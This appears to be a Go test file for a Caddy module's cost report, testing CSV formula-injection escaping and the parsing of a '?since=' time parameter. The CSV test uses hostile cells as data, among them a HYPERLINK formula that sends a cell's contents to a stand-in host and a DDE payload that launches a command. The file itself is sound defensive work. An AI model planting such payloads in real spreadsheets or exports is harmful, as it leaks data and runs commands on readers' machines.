package caddymodule

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/caddy-csb/caddy-csb/broker/jobs"
	"github.com/caddy-csb/caddy-csb/broker/quota"
)

// TestCostsCSVNoFormulas: the CSV costs report is meant to be opened in a
// spreadsheet. An owner is a consumer's user id and a provider id may be
// a provider's own (from its notifications), so either may start with
// "=", "+", "-" or "@"; written as is, such a cell opens as a formula
// (=HYPERLINK(...), =cmd|...). Every text cell must read back as text,
// and commas, quotes and newlines must survive the quoting.
func TestCostsCSVNoFormulas(t *testing.T) {
	now := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
	evil := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}
	out := adminCosts{Until: now}
	for i, s := range evil {
		out.Jobs = append(out.Jobs, adminJobCost{ID: "job" + string(rune('a'+i)), Owner: s, ProviderID: s, State: jobs.StatusSuccess,
			Unit: quota.UnitCore, Units: 1, Price: 1, Rate: 1, Started: now, Cost: 1})
		out.Owners = append(out.Owners, adminCostTotal{ID: s, Jobs: 1, Total: 1})
		out.Providers = append(out.Providers, adminCostTotal{ID: s, Jobs: 1, Total: 1})
	}
	plain := "a,b \"c\"\nd"
	out.Jobs = append(out.Jobs, adminJobCost{ID: "jobz", Owner: plain, ProviderID: "cloud-a", State: jobs.StatusSuccess, Unit: quota.UnitCore})
	var buf bytes.Buffer
	if err := writeCostsCSV(&buf, out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, buf.String())
	}
	if len(rows) != 1+len(out.Jobs)+len(out.Owners)+len(out.Providers)+1 {
		t.Fatalf("%d rows:\n%s", len(rows), buf.String())
	}
	for i, row := range rows[1:] {
		for k, cell := range row[1:] {
			if k+1 == len(row)-1 {
				break // the cost column: a number
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s: %q opens as a formula", i+1, costsCSVHeader[k+1], cell)
			}
		}
	}
	for i, s := range evil {
		if got := rows[1+i][1]; got != "'"+s {
			t.Errorf("owner %q written as %q, want it behind a quote", s, got)
		}
	}
	if got := rows[len(evil)+1][1]; got != plain {
		t.Errorf("owner %q read back as %q", plain, got)
	}
}

// TestCostsSinceOffsetEastOfUTC: ?since= takes an RFC 3339 time, but a
// query's "+" is unescaped to a space, so a time with an offset east of
// UTC written as is (since=2026-12-01T00:00:00+01:00, as docs and
// shells write it) was answered 400 "want an RFC 3339 time".
func TestCostsSinceOffsetEastOfUTC(t *testing.T) {
	now := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
	for raw, want := range map[string]time.Time{
		"2026-12-01T00:00:00+01:00":   time.Date(2026, 11, 30, 23, 0, 0, 0, time.UTC),
		"2026-12-01T00:00:00%2B01:00": time.Date(2026, 11, 30, 23, 0, 0, 0, time.UTC),
		"2026-12-01T00:00:00-05:00":   time.Date(2026, 12, 1, 5, 0, 0, 0, time.UTC),
		"2026-12-01T00:00:00Z":        time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
		"24h":                         now.Add(-24 * time.Hour),
	} {
		r := httptest.NewRequest(http.MethodGet, "/csb/costs?since="+raw, nil)
		got, err := costsSince(r.URL.Query().Get("since"), now)
		if err != nil || !got.Equal(want) {
			t.Errorf("since=%s: %v %v, want %v", raw, got, err, want)
		}
	}
	for _, raw := range []string{"yesterday", "2026-12-01", "-24h", "2026-12-01T00:00:00 01:00 x"} {
		if _, err := costsSince(raw, now); err == nil {
			t.Errorf("since=%q accepted", raw)
		}
	}
}

// TestCostsSinceInTheFuture: a since after now (a mistyped year,
// 2062-12-01) made the window [since, until) empty, and /csb/costs
// answered 200 with a total of 0 and no jobs: nothing spent, as far as
// the report's reader could tell. It is answered 400.
func TestCostsSinceInTheFuture(t *testing.T) {
	now := time.Date(2026, 12, 7, 12, 0, 0, 0, time.UTC)
	for _, raw := range []string{"2062-12-01T00:00:00Z", now.Add(time.Second).Format(time.RFC3339)} {
		if got, err := costsSince(raw, now); adminStatus(err) != http.StatusBadRequest {
			t.Errorf("since=%s: %v %v, want 400", raw, got, err)
		}
	}
	if got, err := costsSince(now.Format(time.RFC3339), now); err != nil || !got.Equal(now) {
		t.Errorf("since=now: %v %v", got, err)
	}
}
